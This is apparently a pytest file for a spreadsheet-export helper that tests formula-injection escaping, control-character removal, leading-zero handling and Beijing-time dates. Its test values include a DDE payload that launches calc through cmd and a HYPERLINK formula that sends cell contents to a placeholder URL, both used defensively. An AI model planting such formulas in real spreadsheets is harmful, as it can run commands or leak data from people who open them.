"""Spreadsheet-safe values: no live formulas, no control characters, long digit strings as text."""

from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from core.spreadsheets import clean_text, csv_bytes, csv_value, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'


def test_formula_leading_text_gets_a_quote_in_csv():
    for value in (HYPERLINK, "=1+1", "+86 10 1234", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"):
        assert csv_value(value) == "'" + value
    assert csv_value("\t=1+1") == "'\t=1+1" and csv_value("\r=1") == "'\r=1"
    assert csv_value("苏州=华宏") == "苏州=华宏"  # only the first character matters


def test_numbers_stay_numbers_and_plain_numeric_text_is_left_alone():
    assert csv_value(3) == "3" and csv_value(-2.5) == "-2.5"
    assert csv_value("-5") == "-5" and csv_value("+3.25") == "+3.25"
    assert csv_value(dt.date(2024, 6, 30)) == "2024-06-30" and csv_value(None) == ""


def test_long_digit_strings_and_leading_zeros_stay_text_in_csv():
    assert csv_value("913701001781286508") == "\t913701001781286508"
    assert csv_value("0123") == "\t0123"
    assert csv_value("320500") == "320500"  # a division code is fine as a number
    assert csv_value("91350200868344975W") == "91350200868344975W"


def test_control_characters_are_removed():
    assert clean_text("华宏\x1b化工\x00\x08厂\t\n") == "华宏化工厂\t\n"
    assert csv_value("华宏\x1b化工") == "华宏化工"


def test_csv_file_has_a_bom_crlf_and_reads_back():
    data = csv_bytes(["名称", "代码"], [[HYPERLINK, "913701001781286508"]])
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["名称", "代码"], ["'" + HYPERLINK, "\t913701001781286508"]]


def test_xlsx_text_is_text_never_a_formula_and_types_are_kept():
    data = xlsx_bytes(
        ["名称", "法定代表人", "代码", "日期", "难度"],
        [
            [HYPERLINK, "=1+1", "913701001781286508", dt.date(2024, 6, 30), 3],
            ["a\x1bb", "#N/A", None, None, -2.5],
        ],
        sheet_title="导出",
        title="标题",
        widths=(30, 10),
    )
    sheet = load_workbook(io.BytesIO(data)).active
    title, header, first, second = list(sheet.iter_rows())
    assert title[0].value == "标题" and title[0].font.bold and header[0].font.bold
    assert [(c.value, c.data_type) for c in first[:3]] == [
        (HYPERLINK, "s"),
        ("=1+1", "s"),
        ("913701001781286508", "s"),
    ]
    assert first[3].value == dt.datetime(2024, 6, 30) and first[3].number_format == "yyyy-mm-dd"
    assert (first[4].value, first[4].data_type) == (3, "n")
    assert [(c.value, c.data_type) for c in second[:2]] == [("ab", "s"), ("#N/A", "s")]
    assert sheet.freeze_panes == "A3"


def test_times_are_written_in_beijing_time():
    import datetime as dt
    import io

    from openpyxl import load_workbook

    from core.spreadsheets import csv_bytes, xlsx_bytes

    moment = dt.datetime(2024, 6, 30, 17, 5, tzinfo=dt.UTC)  # 01:05 on 1 July in Beijing
    assert "2024-07-01 01:05:00" in csv_bytes(["时间"], [[moment]]).decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["时间"], [[moment]], sheet_title="t"))).active
    assert sheet["A2"].value == dt.datetime(2024, 7, 1, 1, 5)
